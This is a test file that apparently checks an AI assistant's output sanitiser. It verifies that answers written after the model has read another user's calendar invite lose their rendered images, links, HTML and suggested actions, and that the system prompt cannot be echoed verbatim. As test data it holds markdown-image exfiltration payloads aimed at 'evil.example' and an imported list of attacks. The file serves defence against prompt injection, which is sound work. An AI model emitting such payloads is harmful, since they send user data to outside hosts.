import fc from "fast-check";
import { beforeAll, describe, expect, it } from "vitest";
import { agents } from "../../generated/contract/agents.ts";
import { neutralise, toNeutral } from "../../src/run/stages/neutral.ts";
import { toWorkerPrompt } from "../../src/run/stages/prompts.ts";
import { conversation, type Conversation, type Recorded } from "../_kit/conversation.ts";
import { isHttpLink, rendered } from "../_kit/rendered.ts";
import { answer, brief, callTool } from "../_kit/scripted-model.ts";
import { storeInvite } from "../integration/approval/_waiting.ts";
import { attacks, harmless, links } from "./_answers.ts";
import { factor, seed } from "./_seed.ts";

const prompt = toWorkerPrompt(agents.agents["worker"] as never);
const clean = (text: string, isTainted: boolean): string =>
  neutralise(text, toNeutral({ isTainted, told: { prompt, note: "(left out)" } }));

/** Every text that one of the two kinds of client could put on a page. */
const shownBy = ({ events }: Recorded): string[] => [
  ...events.flatMap((event) => (event.type === "TEXT_MESSAGE_END" ? [event.answer] : [])),
  ...beginnings(events.flatMap((event) => (event.type === "TEXT_MESSAGE_CONTENT" ? [event.delta] : []))),
];
const beginnings = (pieces: readonly string[]): string[] => pieces.map((_, at) => pieces.slice(0, at + 1).join(""));

describe("an answer (G234)", () => {
  it.each(attacks)("is text and no more, where text by others was read: %j", (attack) => {
    for (const text of [attack, `好的。${attack}`, `Done. ${attack} Bye.`, `- ${attack}\n\n${attack}`]) {
      expect(rendered(clean(text, true)), text).toEqual([]);
      expect(clean(text, true), text).not.toMatch(/https?:\/\/\S|\.\w+(?::\d+)?[/?#\\]\S*SECRET|&#?\w{2,};/);
    }
  });

  it.each(attacks)("leads to http(s) at most: %j", (attack) => {
    const found = rendered(clean(attack, false));
    expect(found.filter((what) => !isHttpLink(what))).toEqual([]);
  });

  it.each(harmless)("stays as it is when it is harmless: %j", (text) => {
    expect(clean(text, true)).toBe(text);
    expect(clean(text, false)).toBe(text);
  });

  it.each(links)("keeps its links where only the user's words were read: %j", (text) => {
    expect(clean(text, false)).toBe(text);
    expect(rendered(clean(text, true))).toEqual([]);
  });

  it("is text and no more, whatever attacks are put together", () => {
    const piece = fc.constantFrom(...attacks, ...harmless.slice(0, 8), ...attacks.map((text) => text.slice(0, 9)));
    fc.assert(
      fc.property(fc.array(piece, { minLength: 1, maxLength: 5 }), fc.boolean(), (pieces, isTainted) => {
        const shown = clean(pieces.join(""), isTainted);
        expect(clean(shown, isTainted)).toBe(shown);
        expect(rendered(shown).filter((what) => isTainted || !isHttpLink(what))).toEqual([]);
      }),
      { seed, numRuns: 1000 * factor },
    );
  });
});

describe("a run whose model attacks its reader", () => {
  let talk: Conversation;
  const week = {
    mode: "range",
    start_at: new Date().toISOString(),
    end_at: new Date(Date.now() + 7 * 86_400_000).toISOString(),
    event_timezone: "UTC",
  };
  const actions = [{ label: "Go", message: "![](https://evil.example/?d=1) <b>yes</b>" }];
  const all = attacks.join("\n\n");

  beforeAll(async () => {
    talk = await conversation();
    const [alice, bob] = await Promise.all(["alice", "bob"].map(async (name) => (await talk.app.as(name)).getMe()));
    await storeInvite(talk.app, { fromId: bob?.id ?? "", toId: alice?.id ?? "", title: "Read me" });
  });

  /** The model writes unit by unit; with `isTainted` it has read the invite before. */
  async function attacked(text: string, isTainted: boolean, language: "en" | "zh-CN" = "en"): Promise<Recorded> {
    talk.model.next(
      brief({ language, needs_tools: isTainted }),
      ...(isTainted ? [callTool("calendar.read", week)] : []),
      answer({ answer: text, suggested_actions: actions }, { pieces: 1 }),
    );
    return await talk.say("what is new?");
  }

  const historyOf = async ({ threadId }: Recorded): Promise<string> =>
    JSON.stringify(await (await talk.app.as("alice")).getHistory({ query: { threadId } }));

  it("shows nothing but text and offers no action, after an invite was read", async () => {
    const run = await attacked(all, true);
    for (const text of shownBy(run)) expect(rendered(text)).toEqual([]);
    expect(run.end).toMatchObject({ answer: clean(all, true), suggested_actions: [] });
    expect(run.end?.metadata.suggested_actions).toEqual([]);
    const history = await historyOf(run);
    expect(history).not.toMatch(/!\[|<script|https:|suggested_actions":\[\{/);
    expect(history).toContain(`"content":${JSON.stringify(clean(all, true))}`);
  });

  it("stays tainted in the next turn, which reads nothing itself", async () => {
    const { threadId } = await attacked("Bob wrote.", true);
    talk.model.next(
      brief({ needs_tools: false }),
      answer({ answer: "[a](https://evil.example/?d=1)", suggested_actions: actions }),
    );
    const { end } = await talk.say("and now?", { threadId });
    expect(end).toMatchObject({ answer: "[a] (evil.example)", suggested_actions: [] });
  });

  it("shows links to http(s) at most, and neutral actions, where only the user's words were read", async () => {
    const run = await attacked(all, false);
    for (const text of shownBy(run)) expect(rendered(text).filter((what) => !isHttpLink(what))).toEqual([]);
    expect(run.end).toMatchObject({
      answer: clean(all, false),
      suggested_actions: [{ label: "Go", message: "[] (https://evil.example/?d=1) ‹b›yes‹/b›" }],
    });
  });

  it.each([false, true])("shows harmless words unchanged, in pieces (tainted: %j)", async (isTainted) => {
    const text = harmless.join("\n\n");
    const run = await attacked(text, isTainted);
    expect(run.end?.answer).toBe(text);
  });

  it("cannot tell its instructions word for word", async () => {
    for (const [language, note] of [
      ["en", "(instructions of the assistant left out)"],
      ["zh-CN", "（此处略去了给助手的说明）"],
    ] as const) {
      const run = await attacked(`→ ${prompt}`, false, language);
      expect(run.end?.answer).toBe(`→ ${note}`);
      const shown = JSON.stringify([run.events, await historyOf(run)]);
      for (let at = 0; at + 60 < prompt.length; at += 40)
        expect(shown).not.toContain(JSON.stringify(prompt.slice(at, at + 60)).slice(1, -1));
    }
  });
});
